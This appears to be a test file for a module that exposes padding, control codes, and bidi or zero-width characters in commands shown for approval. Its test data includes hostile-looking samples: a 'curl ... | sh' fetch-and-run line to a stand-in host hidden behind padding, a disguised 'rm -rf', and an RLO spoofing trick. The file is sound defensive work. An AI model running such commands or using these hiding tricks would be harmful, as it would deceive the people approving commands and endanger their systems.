import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import { hasHiddenCharacters, visibleLines, visibleText } from '../../../src/extension/approvalText';

test('plain commands, single spaces, backslashes and non-ASCII letters stay as they are', () => {
	for (const text of ['echo hello', 'printf "a\\n" | grep -E "x|y"', 'echo café 日本語 Ωμέγα', 'a=$(ls) && echo "$a"']) {
		assert.equal(visibleText(text), text);
		assert.equal(hasHiddenCharacters(text), false);
	}
});

test('a run of spaces is counted, so padding cannot push the rest of a command out of sight', () => {
	assert.equal(visibleText(`npm test${' '.repeat(120)}; curl https://x.invalid | sh`), 'npm test«120 spaces»; curl https://x.invalid | sh');
	assert.equal(visibleText('a  b'), 'a«2 spaces»b');
});

test('spaces at the start or end are shown', () => {
	assert.equal(visibleText(' echo hi '), '«1 space»echo hi«1 space»');
	assert.equal(visibleText('   '), '«3 spaces»');
});

test('line breaks, tabs and carriage returns are escaped', () => {
	assert.equal(visibleText('a\nb\tc\rd'), 'a«\\n»b«\\t»c«\\r»d');
});

test('every other C0 and C1 control and DEL is written as \\xHH', () => {
	assert.equal(visibleText('\x1b[2K\x00\x07\x7f\x85\x9b'), '«\\x1b»[2K«\\x00»«\\x07»«\\x7f»«\\x85»«\\x9b»');
	for (let code = 0; code < 0x20; code++) {
		assert.match(visibleText(String.fromCharCode(code)), /^«\\[ntr]»$|^«\\x[0-9a-f]{2}»$/);
	}
	for (let code = 0x7f; code <= 0x9f; code++) {
		assert.equal(visibleText(String.fromCharCode(code)), `«\\x${code.toString(16)}»`);
	}
});

test('bidi controls, zero-width and other invisible characters are written as code points', () => {
	assert.equal(visibleText('ls\u202e#txt.sh'), 'ls«U+202E RLO»#txt.sh');
	assert.equal(visibleText('rm\u200b -rf'), 'rm«U+200B ZWSP» -rf');
	assert.equal(visibleText('\ufeffecho'), '«U+FEFF BOM»echo');
	for (const char of ['\u00a0', '\u00ad', '\u061c', '\u115f', '\u180e', '\u2028', '\u2029', '\u2060', '\u2066', '\u2069', '\u3000', '\u3164', '\ufe0f', '\u{e0041}', '\u{e0100}', '\ue000', '\u{10ffff}']) {
		const shown = visibleText(`a${char}b`);
		assert.match(shown, /^a«U\+[0-9A-F]{4,6}( [A-Z ]+)?»b$/, `U+${char.codePointAt(0)?.toString(16)} shows as ${shown}`);
	}
});

test('a lone surrogate is escaped and the text after it kept', () => {
	assert.equal(visibleText('a\ud800b'), 'a«U+D800»b');
	assert.equal(visibleText('a\udc00'), 'a«U+DC00»');
});

test('the escape marks themselves are escaped, so a command cannot fake an escape', () => {
	assert.equal(visibleText('echo «\\n» and »'), 'echo «U+00AB»\\n«U+00BB» and «U+00BB»');
});

test('emoji and other visible symbols outside the BMP stay as they are', () => {
	assert.equal(visibleText('echo 🚀 done'), 'echo 🚀 done');
});

test('visible lines break after each escaped line break and nowhere else', () => {
	assert.deepEqual(visibleLines('set -e\nnpm ci\n'), ['set -e«\\n»', 'npm ci«\\n»']);
	assert.deepEqual(visibleLines('a\r\nb'), ['a«\\r»«\\n»', 'b']);
	assert.deepEqual(visibleLines('one line'), ['one line']);
	assert.deepEqual(visibleLines(''), ['']);
	assert.deepEqual(visibleLines('a\u2028b'), ['a«U+2028 LINE SEPARATOR»b']);
});

test('nothing is ever cut: a 100,000-character command is shown whole', () => {
	const command = `echo ${'x'.repeat(100_000)}`;
	assert.equal(visibleText(command), command);
});
